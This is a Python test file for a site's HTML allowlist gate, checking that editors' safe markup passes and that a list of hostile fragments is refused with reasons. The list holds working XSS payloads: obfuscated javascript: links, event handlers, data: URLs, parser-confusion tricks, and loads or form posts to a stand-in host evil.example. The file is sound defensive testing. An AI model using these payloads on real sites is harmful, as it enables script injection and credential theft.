"""Editors' HTML by allowlist: each refused thing with its reason and line;
SVG files held to shapes and text."""

from __future__ import annotations

from pathlib import Path

import pytest

from moussalaha.content import site_markdown
from moussalaha.gate import allowlist

pytestmark = pytest.mark.unit
ROOT = Path(__file__).resolve().parents[2]


def found(fragment: str, **kwargs) -> list[str]:
    return [str(p) for p in allowlist.check_fragment(fragment, "docs/centre.md", **kwargs)]


@pytest.mark.parametrize("fragment", [
    "<p>Le <strong>centre</strong> <em>Moussalaha</em> <a href=\"centre.md#missions\">missions</a></p>",
    '<span lang="en">WCAG</span> <code dir="ltr">localStorage</code>',
    '<a href="https://www.cndh.ma/fr" title="CNDH">CNDH</a> <a href="mailto:contact@example.org">écrire</a>',
    '<img src="assets/images/photo.jpg" alt="La signature" width="800" height="600">',
    '<table><thead><tr><th scope="col">a</th></tr></thead><tbody><tr><td colspan="2">1</td></tr></tbody></table>',
    "<p>a &amp; b &lt; c</p><!-- editors' note -->",
    '<details><summary>Plus</summary><p>texte</p></details><time datetime="2025-12-10">10 décembre</time>',
])
def test_allowed_html_passes(fragment):
    assert found(fragment) == []
    assert allowlist.allowed(fragment)


HOSTILE = [
    ("<script>alert(1)</script>", "raw HTML <script> is refused: it runs code"),
    ("<ScRiPt>alert(1)</sCrIpT>", "raw HTML <script> is refused"),
    ("<script src=//evil.example/x.js></script>", "raw HTML <script> is refused"),
    ("<svg><script>alert(1)</script></svg>", "raw HTML <svg> is refused"),
    ("<svg onload=alert(1)>", "onload= runs code"),
    ('<svg><animate attributeName="href" values="javascript:alert(1)"/></svg>', "raw HTML <animate> is refused"),
    ("<math><mi xlink:href=\"javascript:alert(1)\">x</mi></math>", "raw HTML <math> is refused"),
    ('<a href="jav&#x61;script:alert(1)">x</a>', "javascript: address"),
    ('<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>', "javascript: address"),
    ('<a href=" javascript:alert(1)">x</a>', "javascript: address"),
    ('<a href="java\tscript:alert(1)">x</a>', "javascript: address"),
    ('<a href="JAVASCRIPT:alert(1)">x</a>', "javascript: address"),
    ('<a href="vbscript:msgbox(1)">x</a>', "vbscript: address"),
    ('<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>', "data: address"),
    ('<img src="data:image/svg+xml,<svg onload=alert(1)>" alt="x">', "data: address"),
    ('<img src="x" alt="x" onerror="alert(1)">', "onerror= runs code"),
    ('<p onmouseover="alert(1)">x</p>', "onmouseover= runs code"),
    ('<iframe src="https://evil.example"></iframe>', "<iframe> is refused: it loads another site"),
    ('<object data="x.swf"></object>', "<object> is refused"),
    ('<embed src="x.swf">', "<embed> is refused"),
    ('<form action="https://evil.example"><input name="password"></form>', "<form> is refused: it sends"),
    ('<button formaction="https://evil.example">x</button>', "<button> is refused"),
    ('<meta http-equiv="refresh" content="0; url=https://evil.example">', "<meta> is refused"),
    ("<style>body{display:none}</style>", "<style> is refused"),
    ('<p style="background:url(https://evil.example/x)">x</p>', "a style= attribute is refused"),
    ('<p style="color:red">x</p>', "a style= attribute is refused"),
    ('<img src="https://other.host/x.png" alt="x">', "comes from another host"),
    ('<img src="//other.host/x.png" alt="x">', "comes from another host"),
    ('<img src="/\\other.host/x.png" alt="x">', "comes from another host"),
    ('<link rel="stylesheet" href="//evil.example/x.css">', "<link> is refused"),
    ('<base href="https://evil.example/">', "<base> is refused"),
    ("<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>", "<noscript> is refused"),
    ("<template><script>alert(1)</script></template>", "<template> is refused"),
    ('<video src="x.mp4"></video>', "<video> is refused"),
    ('<a href="x" target="_blank">x</a>', "target= is not one the site allows"),
    ('<div data-x="1">x</div>', "data-x= is not one the site allows"),
    ('<a href="file:///etc/passwd">x</a>', "uses file:"),
    ("<!DOCTYPE html><p>x</p>", "declaration"),
]


@pytest.mark.parametrize("fragment, expected", HOSTILE)
def test_hostile_html_is_refused_with_its_reason(fragment, expected):
    problems = found(fragment)
    assert problems, fragment
    assert any(expected in p for p in problems), problems
    assert all(p.startswith("docs/centre.md:1: ") and " — " in p for p in problems)
    assert not allowlist.allowed(fragment) or "target=" in expected or "declaration" in expected


def test_lines_in_a_fragment():
    problems = found("<p>ok</p>\n\n<p>ok</p>\n<iframe src=x></iframe>\n", first_line=10)
    assert problems == [p for p in problems if p.startswith("docs/centre.md:13: raw HTML <iframe>")] and problems


def test_lines_from_the_markdown_source():
    source = "---\ntitle: x\n---\n\nUn `<html>` en code.\n\nTexte <span onclick=\"go()\">ici</span>\n"
    rendered = '<p>Un <code>&lt;html&gt;</code> en code.</p>\n<p>Texte <span onclick="go()">ici</span></p>'
    [problem] = found(rendered, source=source)
    assert problem.startswith("docs/centre.md:7: the attribute onclick= runs code")


def test_something_only_the_sanitizer_sees_is_still_refused():
    # The standard tokenizer and the browser disagree on this comment: nh3 decides.
    fragment = "<!--><img src=x onerror=alert(1)>-->"
    assert found(fragment)


def test_the_site_pages_raw_html_passes():
    """The editors' own HTML: the page's Markdown without its Jinja (whose
    output the sandbox escapes), rendered as the site renders it."""
    import re

    render = site_markdown.converter(ROOT)
    for path in sorted((ROOT / "docs").glob("*.md")):
        text = path.read_text(encoding="utf-8")
        body = re.sub(r"\{\{.*?\}\}|\{%.*?%\}|\{#.*?#\}", " ", text.split("---", 2)[-1], flags=re.DOTALL)
        html = render(body)
        assert found(html, source=text) == [], path.name
